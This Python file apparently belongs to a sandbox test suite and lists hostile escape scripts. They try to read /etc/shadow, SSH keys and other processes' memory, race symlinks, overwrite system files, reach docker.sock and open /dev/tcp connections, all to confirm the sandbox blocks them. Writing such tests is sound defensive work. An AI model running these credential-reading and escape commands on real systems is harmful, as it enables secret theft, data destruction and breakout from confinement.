"""Getting out: other files, other processes' files, the network."""

from __future__ import annotations

from sandbox.hostile.attack import Attack, script

READ_SLASH_PROC = """
for pid in ["1", "2", "self", str(os.getppid()), *(os.listdir("/proc") if os.path.isdir("/proc") else [])][:60]:
"""

FILES = [
    script(
        "read secrets planted on the host",
        'for path in told["secrets"]:\n    attempt(path, lambda: open(path).read())',
    ),
    script(
        "climb out of the working folder",
        """
for depth in range(1, 12):
    for path in told["secrets"]:
        attempt("climb", lambda: open("../" * depth + path.lstrip("/")).read())
for _ in range(12):
    os.chdir("..")
for path in told["secrets"]:
    attempt("climbed", lambda: open(path.lstrip("/")).read())
""",
    ),
    script(
        "read passwords and keys of the host",
        """
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/etc/machine-id",
             "/etc/hostname", "/var/log/syslog", "/var/lib/dpkg/status", "/boot/vmlinuz", "/proc/kcore", "/proc/kmsg"):
    attempt(path, lambda: open(path, "rb").read(100))
attempt("passwd of the host", lambda: [line for line in open("/etc/passwd") if "daemon" in line or "root:" in line][0])
""",
    ),
    script(
        "list home folders",
        """
for folder in told["folders"]:
    attempt(folder, lambda: os.listdir(folder))
import glob
attempt("keys", lambda: (glob.glob("/*/.ssh/*") + glob.glob("/*/*/.ssh/*") + glob.glob("/*/.bash_history"))[0])
""",
    ),
    script(
        "walk other processes' roots",
        READ_SLASH_PROC
        + """
    for path in told["secrets"]:
        for way in ("root", "cwd", "root/proc/1/root"):
            attempt("root", lambda: open("/proc/" + pid + "/" + way + path).read())
""",
    ),
    script(
        "read other processes",
        READ_SLASH_PROC
        + """
    if pid not in ("self", str(os.getpid())):
        for name in ("environ", "mem", "maps", "stack", "syscall", "auxv"):
            attempt(name, lambda: open("/proc/" + pid + "/" + name, "rb").read(10) or 1 / 0)
        attempt("fd", lambda: os.listdir("/proc/" + pid + "/fd")[0])
""",
    ),
    script(
        "use inherited descriptors",
        """
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    attempt(f"descriptor {fd}", lambda: os.fstat(fd))
for fd in (0, 1, 2):
    attempt("a folder", lambda: os.fchdir(fd))
""",
    ),
    script(
        "follow a symbolic link of its own",
        """
for number, path in enumerate(told["secrets"]):
    os.symlink(path, f"link{number}")
    attempt("link", lambda: open(f"link{number}").read())
os.symlink("/", "slash")
attempt("slash", lambda: open("slash" + told["secrets"][0]).read())
""",
    ),
    script(
        "take a hard link of what is not its own",
        """
for number, path in enumerate([*told["secrets"], "/etc/passwd", "/usr/bin/env", sys.executable]):
    attempt("hard link", lambda: os.link(path, f"hard{number}"))
""",
    ),
    script(
        "race a symbolic link",
        """
stop = time.monotonic() + 0.1
with open("plain", "w") as file:
    file.write("plain")
def swap():
    while time.monotonic() < stop:
        os.symlink("plain", "new"); os.replace("new", "race")
        os.symlink(told["secrets"][0], "new"); os.replace("new", "race")
thread = threading.Thread(target=swap); thread.start()
while time.monotonic() < stop:
    try:
        text = open("race").read()
        if text != "plain":
            print("GOT", text)
    except OSError:
        pass
thread.join()
""",
    ),
    script(
        "write anywhere",
        """
import sysconfig
for folder in ["/", "/etc", "/usr", "/usr/bin", "/usr/local/lib", "/bin", "/lib", "/var", "/var/tmp", "/opt", "/srv",
               "/run", "/dev", "/sys", "/proc", "/homeschool", "/box", sys.prefix, sysconfig.get_path("stdlib"),
               sysconfig.get_path("purelib"), os.path.dirname(sys.executable), *told["folders"]]:
    path = os.path.join(folder, "hostile-" + told["marker"])
    if folder != "/box":
        attempt(folder, lambda: open(path, "w"))
        attempt(folder, lambda: os.mkdir(path))
        attempt(folder, lambda: os.symlink("x", path))
for path in [sys.executable, os.__file__, "/usr/bin/env", "/bin/sh", "/etc/passwd", "/etc/ld.so.cache",
             *told["secrets"]]:
    attempt(path, lambda: open(path, "ab"))
    attempt(path, lambda: os.truncate(path, 0))
""",
    ),
    script(
        "change, move and remove what is not its own",
        """
for path in [*told["secrets"], "/usr/bin/env", "/etc/hosts", os.__file__]:
    attempt("chmod", lambda: os.chmod(path, 0o777))
    attempt("utime", lambda: os.utime(path))
    attempt("rename", lambda: os.rename(path, path + ".old"))
    attempt("remove", lambda: os.remove(path))
    attempt("xattr", lambda: os.setxattr(path, "user.a", b"b"))
""",
    ),
    script(
        "open the kernel's switches",
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",
             "/proc/sys/kernel/ns_last_pid", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/self/uid_map",
             "/proc/self/attr/current", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/fs/cgroup/cgroup.procs",
             "/sys/kernel/debug", "/sys/power/state", "/proc/1/oom_score_adj"):
    attempt(path, lambda: open(path, "r+"))
""",
    ),
    script(
        "look at what a program before it left",
        """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/box"):
    try:
        names = set(os.listdir(folder)) - {"told.json", "tmp", "shm"}
    except OSError:
        continue
    if names:
        print("GOT", folder, names)
for name in ("json.py", "exchange.py", "sitecustomize.py", "shm/left"):
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('left by a program before')")
        except OSError:
            pass
""",
    ),
]

NETWORK = [
    script(
        "connect to the host by TCP",
        """
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET, told["address"]),
                        (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
    attempt(address, lambda: socket.socket(family).connect((address, told["tcp"])))
attempt("create_connection", lambda: socket.create_connection(("localhost", told["tcp"]), timeout=0.3))
attempt("names", lambda: socket.gethostbyname("example.com"))
import urllib.request
attempt("urllib", lambda: urllib.request.urlopen(f"http://127.0.0.1:{told['tcp']}/", timeout=0.3))
""",
    ),
    script(
        "send to the host by UDP",
        """
for address in ("127.0.0.1", told["address"], "255.255.255.255"):
    attempt(address, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", (address, told["udp"])))
""",
    ),
    script(
        "connect by a shell",
        """
import subprocess
for command in (f"exec 3<>/dev/tcp/127.0.0.1/{told['tcp']}", f"echo out > /dev/udp/127.0.0.1/{told['udp']}"):
    attempt("bash", lambda: subprocess.run(["bash", "-c", command], check=True, capture_output=True))
child = f"import socket; socket.create_connection(('127.0.0.1', {told['tcp']}))"
attempt("python", lambda: subprocess.run([sys.executable, "-S", "-c", child], check=True, capture_output=True))
""",
    ),
    script(
        "sockets of every other family",
        """
for family in range(50):
    for kind in (1, 2, 3, 5):
        if family != socket.AF_UNIX:
            attempt(f"family {family}", lambda: call("socket", family, kind, 0))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
attempt("pair", lambda: call("socketpair", 2, 1, 0, bytes(8)))
""",
        raw=True,
    ),
    script(
        "connect to sockets of the host",
        """
for address in ("\\0" + told["abstract"], told["unix"], "/var/run/docker.sock", "/run/docker.sock",
                "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log",
                "/run/snapd.socket", "/run/podman/podman.sock", "/tmp" "/.X11-unix/X0"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        attempt(address, lambda: socket.socket(socket.AF_UNIX, kind).connect(address))
""",
    ),
    script(
        "listen for the host",
        """
for family in (socket.AF_INET, socket.AF_INET6):
    attempt("listen", lambda: socket.create_server(("", told["free"]), family=family))
""",
    ),
    script(
        "read what it is not told",
        """
import subprocess
print(dict(os.environ), sys.argv, sys.path, sys.flags)
print(subprocess.run("env; set; cat /proc/*/environ /proc/*/cmdline", shell=True, capture_output=True).stdout)
for path in told["repository"]:
    attempt(path, lambda: open(path).read())
attempt("import", lambda: __import__("homeschool"))
attempt("import", lambda: __import__("pytest"))
""",
    ),
]

ESCAPES: list[Attack] = [*FILES, *NETWORK]
